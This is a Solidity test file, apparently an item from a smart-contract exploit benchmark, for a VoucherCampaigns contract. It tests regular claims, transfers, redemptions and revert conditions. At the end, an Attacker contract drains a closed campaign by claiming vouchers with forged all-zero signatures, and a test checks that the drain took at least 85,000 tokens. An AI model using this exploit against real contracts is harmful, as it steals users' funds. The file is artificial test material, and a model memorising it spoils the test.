// SPDX-License-Identifier: AGPL-3.0-or-later
pragma solidity 0.8.19;

import {ERC20} from "@openzeppelin/contracts@4.9.6/token/ERC20/ERC20.sol";
import "./VoucherCampaigns.sol";

// assay-canary-b0800892-29db-4da9-9ec2-2c259dec43b1

interface Vm {
    function warp(uint256 time) external;
    function prank(address sender) external;
    function sign(uint256 key, bytes32 digest) external returns (uint8 v, bytes32 r, bytes32 s);
    function addr(uint256 key) external returns (address);
    function expectRevert(bytes calldata reason) external;
}

contract Token is ERC20 {
    constructor() ERC20("Dollar", "USD") {
        _mint(msg.sender, 200_000e6);
    }
}

contract Proof {
    Vm internal constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    uint256 internal constant KEY = 0x57E3A4D;
    uint256 internal constant START = 1_779_000_000;
    address internal constant ANNA = address(0xA99A);
    address internal constant BERT = address(0xBE47);

    Token internal usd;
    VoucherCampaigns internal campaigns;
    Attacker internal thief;
    address internal manager;

    function setUp() public {
        vm.warp(START);
        usd = new Token();
        campaigns = new VoucherCampaigns(usd);
        usd.approve(address(campaigns), type(uint256).max);
        manager = vm.addr(KEY);
        campaigns.create("Spring", manager, 20, 5_000e6, uint64(START + 1 days));
        campaigns.create("Summer", manager, 10, 500e6, uint64(START + 2 days));
        vm.warp(START + 3 days);
        for (uint256 code = 1; code <= 3; ++code) {
            bytes memory signature = _signed(0, code, BERT);
            vm.prank(BERT);
            uint256 voucher = campaigns.claim(0, code, signature);
            vm.prank(BERT);
            campaigns.redeem(voucher);
        }
        vm.prank(manager);
        campaigns.close(0);
        thief = new Attacker(campaigns);
    }

    function _signed(uint256 campaign, uint256 code, address recipient) internal returns (bytes memory) {
        (uint8 v, bytes32 r, bytes32 s) = vm.sign(KEY, campaigns.voucherDigest(campaign, code, recipient));
        return abi.encodePacked(r, s, v);
    }

    function test_Regular() public {
        bytes memory signature = _signed(1, 7, ANNA);
        vm.prank(ANNA);
        uint256 voucher = campaigns.claim(1, 7, signature);
        vm.prank(ANNA);
        campaigns.transferVoucher(voucher, BERT);
        vm.prank(BERT);
        campaigns.redeem(voucher);
        require(usd.balanceOf(BERT) == 15_500e6, "values");
        vm.prank(manager);
        campaigns.close(1);

        campaigns.create("Autumn", manager, 1, 1e6, uint64(block.timestamp + 1 days));
        vm.prank(manager);
        campaigns.changeManager(2, ANNA);
        (address now_, , , , , , ) = campaigns.campaigns(2);
        require(now_ == ANNA, "changed");
    }

    // What is refused, each from the state after setUp().

    /// The next call is made by who, and reverts for this reason.
    function refuses(address who, bytes memory why) internal {
        vm.prank(who);
        vm.expectRevert(why);
    }

    /// A campaign is its manager's, a voucher its holder's.
    function test_RefusesStrangers() public {
        bytes memory not = abi.encodeWithSelector(VoucherCampaigns.NotTheManager.selector, 1, BERT);
        refuses(BERT, not);
        campaigns.changeManager(1, BERT);
        refuses(BERT, not);
        campaigns.close(1);
        bytes memory none = abi.encodeWithSelector(VoucherCampaigns.ManagerNotValid.selector, address(0));
        vm.expectRevert(none);
        campaigns.create("Nobody's", address(0), 1, 1, uint64(block.timestamp + 1));
        refuses(manager, none);
        campaigns.changeManager(1, address(0));
        bytes memory signature = _signed(1, 7, ANNA);
        vm.prank(ANNA);
        uint256 voucher = campaigns.claim(1, 7, signature);
        not = abi.encodeWithSelector(VoucherCampaigns.NotTheHolder.selector, voucher, BERT);
        refuses(BERT, not);
        campaigns.transferVoucher(voucher, BERT);
        refuses(BERT, not);
        campaigns.redeem(voucher);
        vm.prank(ANNA);
        campaigns.redeem(voucher);
        refuses(ANNA, abi.encodeWithSelector(VoucherCampaigns.AlreadyRedeemed.selector, voucher));
        campaigns.redeem(voucher);
    }

    /// Campaigns to come, vouchers while there are any, signatures of one form.
    function test_RefusesVouchers() public {
        vm.expectRevert(abi.encodeWithSelector(VoucherCampaigns.OpensTooEarly.selector, block.timestamp));
        campaigns.create("Yesterday's", BERT, 1, 1, uint64(block.timestamp));
        uint256 opensAt = block.timestamp + 1 days;
        uint256 id = campaigns.create("Autumn", manager, 2, 1, uint64(opensAt));
        bytes memory early = abi.encodeWithSelector(VoucherCampaigns.NotOpenYet.selector, id, opensAt);
        refuses(manager, early);
        campaigns.close(id);
        bytes memory signature = _signed(id, 1, ANNA);
        refuses(ANNA, early);
        campaigns.claim(id, 1, signature);
        vm.warp(opensAt + 1);
        bytes memory not = abi.encodeWithSelector(VoucherCampaigns.NotSignedByManager.selector, id, 1);
        refuses(BERT, not);
        campaigns.claim(id, 1, signature);
        refuses(ANNA, not);
        campaigns.claim(id, 1, new bytes(65));
        vm.prank(ANNA);
        campaigns.claim(id, 1, signature);
        refuses(ANNA, abi.encodeWithSelector(VoucherCampaigns.CodeUsed.selector, id, 1));
        campaigns.claim(id, 1, signature);
        signature = _signed(id, 2, ANNA);
        vm.prank(ANNA);
        campaigns.claim(id, 2, signature);
        signature = _signed(id, 3, ANNA);
        refuses(ANNA, abi.encodeWithSelector(VoucherCampaigns.NoVoucherLeft.selector, id));
        campaigns.claim(id, 3, signature);
    }

    function exploit() public {
        thief.run(0, 17);
    }

    function test_Exploit() public {
        uint256 before = usd.balanceOf(address(thief));
        exploit();
        require(usd.balanceOf(address(thief)) >= before + 85_000e6, "nothing gained");
    }

    function target() public view returns (address) {
        return address(campaigns);
    }

    function attacker() public view returns (address) {
        return address(thief);
    }

    function token() public view returns (address) {
        return address(usd);
    }
}

/// Claims vouchers with signatures that nobody made.
contract Attacker {
    VoucherCampaigns internal campaigns;

    constructor(VoucherCampaigns campaigns_) {
        campaigns = campaigns_;
    }

    function run(uint256 campaign, uint256 count) external {
        for (uint256 i = 0; i < count; ++i) {
            campaigns.redeem(campaigns.claim(campaign, 1_000_000 + i, new bytes(65)));
        }
    }
}
